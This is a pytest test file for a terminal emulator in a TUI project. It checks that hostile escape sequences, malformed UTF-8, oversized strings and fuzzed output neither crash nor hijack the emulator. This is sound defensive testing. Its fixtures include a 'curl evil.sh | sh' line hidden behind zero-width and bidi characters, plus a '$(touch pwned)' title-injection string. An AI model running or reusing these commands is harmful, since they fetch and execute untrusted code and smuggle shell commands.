"""The emulator: hostile output never kills it, replies stay fixed, rows and history are right.

The corpus follows research reliability-anchors.md B2, B3, B4 and B9: every item
is followed by `\\r\\nOK`, which must then show on the cursor's row.
"""

from __future__ import annotations

import random
import sys
import time

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from tundra_tui.domain.sanitize import is_clean
from tundra_tui.session.emulator import CellRun, Emulator

MB = 1024 * 1024

HOSTILE = {
    "dsr-private-6": b"\x1b[?6n",
    "dsr-private-996": b"\x1b[?996n",
    "csi-5000-digits": b"\x1b[" + b"9" * 5000 + b"m",
    "csi-80-digits-can": b"\x1b[" + b"1" * 80 + b"\x18",
    "csi-intermediates-can": b"\x1b[    \x18",
    "csi-unknown-private": b"\x1b[?9999z",
    "line-10mb": b"x" * (10 * MB),
    "utf8-ff": b"\xff",
    "utf8-overlong": b"\xc0\xaf",
    "utf8-surrogate": b"\xed\xa0\x80",
    "utf8-tmux-malformed": b"\xf0\x80\x80\x80A\xed\xa0\x80B",
    "osc-unterminated-1.1mb": b"\x1b]2;" + b"x" * (1100 * 1024),
    "apc-unterminated-1.1mb": b"\x1b_" + b"x" * (1100 * 1024),
    "osc-unknown": b"\x1b]999;bad\x07",
    "osc-8-and-52-malformed": b"\x1b]8;id=a:id=b;http://bad\x07X\x1b]52bad\x07\x1b]52;c;@@@\x07",
    "dcs-decrqss": b"\x1bP$qBAD\x1b\\",
    "c1-8-bit": b"\x9b31m\x9d0;t\x07\x90q\x9c\x98x\x9e\x9f",
    "c1-utf8-encoded": "\x9b31m\x9d0;title\x07".encode(),
    "can-mid-csi": b"\x1b[31\x18",
    "sub-mid-osc": b"\x1b]0;ab\x1a",
    "can-mid-dcs": b"\x1bPq#0;2;0;0;0\x18",
    "title-report-cve": b"\x1b]2;$(touch pwned)\x07\x1b[21t\x1b[20t",
    "zero-width-and-bidi": "ls\u200b; curl evil.sh \u202e| sh".encode(),
}


def _shows_ok(emulator: Emulator) -> bool:
    return emulator.line_text(emulator.cursor[1]).startswith("OK")


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_output_never_raises_and_output_resumes(payload: bytes) -> None:
    emulator = Emulator(80, 24)
    emulator.feed(b"before\r\n")
    start = time.perf_counter()
    emulator.feed(payload)
    emulator.feed(b"\r\nOK")
    assert time.perf_counter() - start < 2.0  # The strict per-item figure is the benchmark's.
    assert _shows_ok(emulator)


def test_hostile_output_split_into_pty_sized_reads() -> None:
    emulator = Emulator(80, 24)
    stream = b"".join(HOSTILE[name] + b"\r\nOK" for name in HOSTILE if name != "line-10mb")
    start = time.perf_counter()
    for offset in range(0, len(stream), 4096):
        emulator.feed(stream[offset : offset + 4096])
    assert time.perf_counter() - start < 5.0
    assert _shows_ok(emulator)


def test_an_unterminated_string_is_neither_stored_nor_slow() -> None:
    emulator = Emulator(80, 24, max_sequence=64 * 1024)
    emulator.feed(b"\x1b]2;kept\x07")
    start = time.perf_counter()
    emulator.feed(b"\x1b]2;" + b"y" * (10 * MB))
    assert time.perf_counter() - start < 2.0
    assert emulator._filter.pending == 0  # Nothing of the 10 MB is held.
    emulator.feed(b"\r\nOK")
    assert emulator.title == "kept"
    assert _shows_ok(emulator)


def test_a_pyte_exception_is_counted_and_the_next_output_renders() -> None:
    emulator = Emulator(80, 24)
    # Origin mode without margins makes pyte's cursor_to_line assert.
    emulator.feed(b"\x1b[?6h\x1b[5d")
    if sys.flags.optimize:
        pytest.skip("pyte's failing assert is compiled out under -O")
    assert emulator.errors == 1
    assert "AssertionError" in emulator.last_error
    emulator.feed(b"\r\nOK")
    assert _shows_ok(emulator)


def test_multibyte_characters_split_across_reads() -> None:
    emulator = Emulator(20, 3)
    data = "é✓漢🚀".encode()
    for index in range(len(data)):
        emulator.feed(data[index : index + 1])
    assert emulator.line_text(0) == "é✓漢🚀"


def test_invalid_utf8_shows_replacement_characters() -> None:
    emulator = Emulator(20, 3)
    data = b"\xf0\x80\x80\x80A\xed\xa0\x80B\xc0\xafC\xff"
    emulator.feed(data)
    assert emulator.line_text(0) == data.decode("utf-8", "replace")
    assert emulator.line_text(0).count("\ufffd") == 10


def test_text_after_invisible_characters_is_not_dropped() -> None:
    emulator = Emulator(60, 3)
    emulator.feed("Approve: ls\u200b; curl evil.sh | sh\x05 tail ✔\ufe0f done".encode())
    assert emulator.line_text(0) == "Approve: ls; curl evil.sh | sh tail ✔ done"


def test_replies_are_only_da_dsr_and_cpr() -> None:
    replies: list[bytes] = []
    emulator = Emulator(80, 24, reply=replies.append)
    emulator.feed(b"ab\r\ncd")
    emulator.feed(
        b"\x1b[c\x1b[0c\x1b[>c\x1b[=c\x1b[5n\x1b[6n\x1b[?6n\x1b[21t\x1b[20t\x1b[14t"
        b"\x1b]52;c;?\x07\x1b]50;?\x07\x1b]10;?\x07\x1bP$q m\x1b\\\x1bP$qBAD\x1b\\"
        b"\x1b[?2026$p\x1b[>q\x1b[18t"
    )
    assert replies == [b"\x1b[?6c", b"\x1b[?6c", b"\x1b[0n", b"\x1b[2;3R"]


def test_a_failing_reply_callback_does_not_escape() -> None:
    def broken(_: bytes) -> None:
        raise OSError("pty closed")

    emulator = Emulator(80, 24, reply=broken)
    emulator.feed(b"\x1b[c\r\nOK")
    assert emulator.errors == 1
    assert _shows_ok(emulator)


def test_title_is_capped_and_sanitized() -> None:
    emulator = Emulator(80, 24, max_title=32)
    emulator.feed(b"\x1b]0;" + b"A" * 1000 + b"\x07")
    assert len(emulator.title) <= 32
    emulator.feed("\x1b]2;hi\x01\u202ethere\x08\r\x1b\\".encode())
    assert emulator.title.startswith("hi")
    assert is_clean(emulator.title)
    assert "\u202e" not in emulator.title and "\x01" not in emulator.title


def test_dirty_rows_include_old_and_new_cursor_rows() -> None:
    emulator = Emulator(20, 12)
    emulator.feed(b"a\r\nb\r\nc")
    emulator.take_dirty()
    emulator.feed(b"\x1b[10;5H")
    assert emulator.take_dirty() == {2, 9}
    assert emulator.take_dirty() == set()
    emulator.feed(b"x")
    assert emulator.take_dirty() == {9}
    emulator.feed(b"\x1b[?25l")
    assert emulator.take_dirty() == {9}  # Hiding the cursor repaints its row.


def test_scrollback_keeps_the_last_lines_in_order_with_their_style() -> None:
    emulator = Emulator(30, 10, scrollback=50)
    emulator.feed(b"".join(b"\x1b[31mline\x1b[0m %d\r\n" % n for n in range(100)))
    assert emulator.scrollback_size == 50
    assert emulator.scrollback_text(0, 50) == [f"line {n}" for n in range(41, 91)]
    assert emulator.line_text(0) == "line 91"
    runs = emulator.scrollback_lines(49, 5)
    assert runs == [
        [
            CellRun("line", "red", "default", False, False, False, False),
            CellRun(" 90", "default", "default", False, False, False, False),
        ]
    ]


@pytest.mark.parametrize("skim", [True, False])
@pytest.mark.parametrize("chunk", [1, 7, 4096, 1 << 20])
def test_scrollback_line_numbers_hold_however_the_output_came(skim: bool, chunk: int) -> None:
    # Scrollback line 0 is always row `scrollback_dropped` of everything that scrolled off,
    # whether pyte drew it, the skim fast path took it or it was part of a long run.
    emulator = Emulator(30, 10, scrollback=50, skim=skim)
    lines = b"".join(b"\x1b[31mline\x1b[0m %d\r\n" % n for n in range(400))
    rows = [f"line {n}" for n in range(400)] + ["x" * 30] * 80 + [f"line {n}" for n in range(400)]
    for data in (lines, b"x" * (30 * 80) + b"\r\n", lines):  # a long run: 80 rows, no newline
        for start in range(0, len(data), chunk):
            emulator.feed(data[start : start + chunk])
        assert emulator.scrollback_size == 50
        assert emulator.scrollback_text(0, 1)[0] == rows[emulator.scrollback_dropped]
    assert emulator.scrollback_dropped + 50 == len(rows) - 9  # 9 rows above the cursor
    emulator.feed(b"\x1b[3J")  # erase saved lines: they all count as gone
    assert emulator.scrollback_size == 0 and emulator.scrollback_dropped == len(rows) - 9


def test_a_long_line_lands_in_scrollback_like_any_other() -> None:
    slow = Emulator(10, 4, scrollback=20)
    fast = Emulator(10, 4, scrollback=20)
    text = b"\x1b[1m" + bytes(range(0x41, 0x5B)) * 20 + b"\x1b[0m\r\nOK"
    fast.feed(b"ab\r\n" + text)
    slow.feed(b"ab\r\n")
    for index in range(len(text)):
        slow.feed(text[index : index + 1])
    assert fast.text() == slow.text()
    assert fast.scrollback_lines(0, 99) == slow.scrollback_lines(0, 99)


def test_erase_saved_lines_clears_scrollback_only() -> None:
    emulator = Emulator(20, 3)
    emulator.feed(b"1\r\n2\r\n3\r\n4")
    assert emulator.scrollback_size == 1
    emulator.feed(b"\x1b[3J")
    assert emulator.scrollback_size == 0
    assert emulator.line_text(2) == "4"


def test_alternate_screen_restores_the_main_screen_and_keeps_no_history() -> None:
    emulator = Emulator(20, 3)
    emulator.feed(b"shell prompt")
    emulator.feed(b"\x1b[?1049h\x1b[2J\x1b[Hfull\r\nscreen\r\napp\r\nscrolls\r\n")
    assert emulator.alternate_screen
    assert emulator.scrollback_size == 0
    emulator.feed(b"\x1b[?1049l")
    assert not emulator.alternate_screen
    assert emulator.line_text(0) == "shell prompt"
    assert emulator.cursor == (12, 0)


def test_resize_keeps_the_cursor_row_and_pushes_rows_above_into_history() -> None:
    emulator = Emulator(20, 6)
    emulator.feed(b"r0\r\nr1\r\nr2\r\nr3\r\nr4 long line here")
    emulator.take_dirty()
    emulator.resize(10, 3)
    assert (emulator.columns, emulator.rows) == (10, 3)
    assert emulator.text() == "r2\nr3\nr4 long li"
    assert emulator.scrollback_text(0, 10) == ["r0", "r1"]
    assert emulator.cursor[1] == 2
    assert emulator.take_dirty() == {0, 1, 2}
    emulator.resize(30, 8)
    assert emulator.take_dirty() == set(range(8))
    emulator.feed(b"\r\nOK")
    assert _shows_ok(emulator)


def test_line_cells_merge_equal_styles() -> None:
    emulator = Emulator(40, 2)
    emulator.feed(b"ab\x1b[1;32mcd\x1b[22mef\x1b[0m\x1b[7mgh\x1b[0m  ")
    assert emulator.line_cells(0) == [
        CellRun("ab", "default", "default", False, False, False, False),
        CellRun("cd", "green", "default", True, False, False, False),
        CellRun("ef", "green", "default", False, False, False, False),
        CellRun("gh", "default", "default", False, False, False, True),
    ]
    assert emulator.line_cells(1) == []


def test_colon_sgr_and_repeat() -> None:
    emulator = Emulator(40, 2)
    emulator.feed(b"\x1b[38:2::255:0:0mX\x1b[4:3mY\x1b[0m-\x1b[4b")
    assert emulator.line_text(0) == "XY-----"
    red = CellRun("X", "ff0000", "default", False, False, False, False)
    assert emulator.line_cells(0)[0] == red


def test_bottom_skips_blank_rows_at_the_bottom() -> None:
    emulator = Emulator(20, 8)
    emulator.feed(b"one\r\ntwo\r\n\r\nthree  \r\n\r\n")
    assert emulator.bottom(2) == ["", "three"]
    assert emulator.bottom(10) == ["one", "two", "", "three"]


def test_reset_clears_screen_history_and_title() -> None:
    emulator = Emulator(20, 2)
    emulator.feed(b"\x1b]2;t\x07a\r\nb\r\nc\x1b[")
    emulator.reset()
    assert (emulator.text(), emulator.title, emulator.scrollback_size) == ("\n", "", 0)
    emulator.feed(b"OK")
    assert emulator.line_text(0) == "OK"


_PIECES = [
    b"\x1b", b"\x1b[", b"\x1b]", b"\x1bP", b"\x1b_", b"\x1b^", b"\x1bX", b"\x1b(", b"\x1b#",
    b"\x9b", b"\x9d", b"\x90", b"\x9c", b"\xc2\x9b", b"\x07", b"\x18", b"\x1a", b"\x1b\\",
    b";", b":", b"?", b">", b"$", b" ", b"0", b"1", b"6", b"9" * 20, b"m", b"n", b"c", b"h",
    b"l", b"H", b"J", b"K", b"r", b"b", b"t", b"q", b"\r", b"\n", b"\x08", b"\t", b"\xe2\x94",
    b"\xf0\x9f", b"\xff", b"x", b"2;title", b"?1049", b"?6", "\u200b".encode(),
]  # fmt: skip


@settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(
    pieces=st.lists(st.one_of(st.sampled_from(_PIECES), st.binary(max_size=6)), max_size=80),
    cuts=st.lists(st.integers(1, 32), max_size=20),
    size=st.tuples(st.integers(2, 30), st.integers(1, 8)),
)
def test_fuzzed_output_never_raises_and_the_parser_recovers(
    pieces: list[bytes], cuts: list[int], size: tuple[int, int]
) -> None:
    emulator = Emulator(*size, scrollback=10, reply=lambda _: None)
    data = b"".join(pieces)
    offset = 0
    start = time.perf_counter()
    for cut in [*cuts, len(data)]:
        emulator.feed(data[offset : offset + cut])
        offset += cut
    emulator.take_dirty()
    assert time.perf_counter() - start < 1.0
    emulator.feed(b"\x18\x1b\\\r\nOK")
    assert emulator.line_text(emulator.cursor[1]).startswith("OK")


# ---- skimming line output (session/skim.py) ----------------------------------------------

_WORDS = ["ok", "PASSED", "tests/test_x.py::t", "é", "✓", "漢字", "🚀", "  ", "a" * 37, "-"]
_SGRS = ["", "0", "1", "31", "1;32", "38;5;208", "48;2;10;20;30", "7", "22;39", "4", "38;5"]
_LINE_BITS = st.one_of(
    st.sampled_from(_WORDS),
    st.sampled_from(_SGRS).map(lambda body: f"\x1b[{body}m"),
    st.sampled_from(["\r\n", "\r\n", "\r\r\n", "\n", "\r", "\t", "\x1b[K", "\x1b[1K", "\x1b[2K"]),
)
_OTHER_BITS = st.sampled_from(
    ["\x1b[2A", "\x1b[H", "\x07", "e\u0301", "\u200b", "\x1b[?25l", "\x08", "\x1b[3b", "\x1b[0K"]
)


def _same_state(skimmed: Emulator, plain: Emulator) -> None:
    assert skimmed.text() == plain.text()
    assert skimmed.cursor == plain.cursor
    rows = range(plain.rows)
    assert [skimmed.line_cells(y) for y in rows] == [plain.line_cells(y) for y in rows]
    assert skimmed.scrollback_size == plain.scrollback_size
    size = plain.scrollback_size
    assert skimmed.scrollback_text(0, size) == plain.scrollback_text(0, size)
    assert skimmed.scrollback_lines(0, size) == plain.scrollback_lines(0, size)


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    lines=st.lists(
        st.lists(st.one_of(*[_LINE_BITS] * 15, _OTHER_BITS), max_size=12),
        min_size=5,
        max_size=60,
    ),
    cuts=st.lists(st.integers(1, 400), max_size=12),
    size=st.tuples(st.integers(3, 30), st.integers(2, 9)),
    scrollback=st.integers(0, 40),
)
def test_skimmed_line_output_leaves_the_state_plain_pyte_leaves(
    lines: list[list[str]], cuts: list[int], size: tuple[int, int], scrollback: int
) -> None:
    """Screen, cursor, its style, the last graphic and scrollback are pyte's, cut anywhere."""
    data = "".join("".join(line) + "\r\n" for line in lines).encode()
    skimmed = Emulator(*size, scrollback=scrollback)
    plain = Emulator(*size, scrollback=scrollback, skim=False)
    offset = 0
    for cut in [*cuts, len(data)]:
        skimmed.feed(data[offset : offset + cut])
        offset += cut
    plain.feed(data)
    event(f"skimmed {10 * skimmed.skimmed // max(len(data), 1) * 10}%")
    _same_state(skimmed, plain)
    for emulator in (skimmed, plain):
        emulator.feed(b"\x1b[2bZ")  # repeats the last graphic, then shows the cursor's style
    _same_state(skimmed, plain)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    lines=st.lists(
        st.lists(st.one_of(*[_LINE_BITS] * 15, _OTHER_BITS), max_size=12),
        min_size=5,
        max_size=60,
    ),
    cuts=st.lists(st.tuples(st.integers(1, 400), st.sampled_from("-rRbsz")), max_size=16),
    size=st.tuples(st.integers(3, 30), st.integers(2, 9)),
)
def test_rows_left_undrawn_between_batches_read_as_pyte_draws_them(
    lines: list[list[str]], cuts: list[tuple[int, str]], size: tuple[int, int]
) -> None:
    """Skimmed batches leave their rows owed to pyte's buffer (Skimmer.settle): whatever
    reads the screen between batches (one row, all, the bottom), resizes it or resets it,
    sees what plain pyte shows at that point."""
    data = "".join("".join(line) + "\r\n" for line in lines).encode()
    skimmed = Emulator(*size, scrollback=20)
    plain = Emulator(*size, scrollback=20, skim=False)
    offset = 0
    for cut, then in [*cuts, (len(data), "-")]:
        chunk = data[offset : offset + cut]
        offset += cut
        skimmed.feed(chunk)
        plain.feed(chunk)
        if then == "r":
            y = plain.cursor[1]
            assert skimmed.line_text(y) == plain.line_text(y)
            assert skimmed.line_cells(0) == plain.line_cells(0)
        elif then == "R":
            _same_state(skimmed, plain)
        elif then == "b":
            assert skimmed.bottom(3) == plain.bottom(3)
        elif then == "s":
            for emulator in (skimmed, plain):
                emulator.resize(size[0] + 1, size[1] + 1)
            _same_state(skimmed, plain)
            for emulator in (skimmed, plain):
                emulator.resize(*size)
        elif then == "z":
            for emulator in (skimmed, plain):
                emulator.reset()
    _same_state(skimmed, plain)


def _test_log(lines: int, seed: int = 3) -> bytes:
    """A coloured test run: pass/fail lines, percentages, assertion errors erased to the end."""
    rng = random.Random(seed)
    out: list[str] = []
    for n in range(lines):
        status = rng.choice(["\x1b[32mPASSED", "\x1b[31mFAILED", "\x1b[33mSKIPPED"])
        test = f"tests/test_m{rng.randrange(50)}.py::test_{n}"
        out.append(f"{test} {status}\x1b[0m \x1b[1m[{n % 100:3d}%]\x1b[0m")
        if rng.random() < 0.1:
            out.append(f"\x1b[1;31mE   assert {rng.random()} == {rng.random()}\x1b[0m\x1b[K")
        if rng.random() < 0.05:
            out.append("\t✓ 漢字 done" + "=" * rng.randrange(200))
    return ("\r\n".join(out) + "\r\n").encode()


def test_a_coloured_log_cut_anywhere_is_skimmed_to_the_same_screen() -> None:
    data = _test_log(1500)
    rng = random.Random(5)
    skimmed = Emulator(100, 30, scrollback=500)
    plain = Emulator(100, 30, scrollback=500, skim=False)
    offset = 0
    while offset < len(data):
        size = rng.choice([1, 7, 300, 4096, 20000, 65536])
        skimmed.feed(data[offset : offset + size])
        offset += size
    plain.feed(data)
    assert skimmed.skimmed > len(data) // 2  # most of it never reached pyte
    _same_state(skimmed, plain)
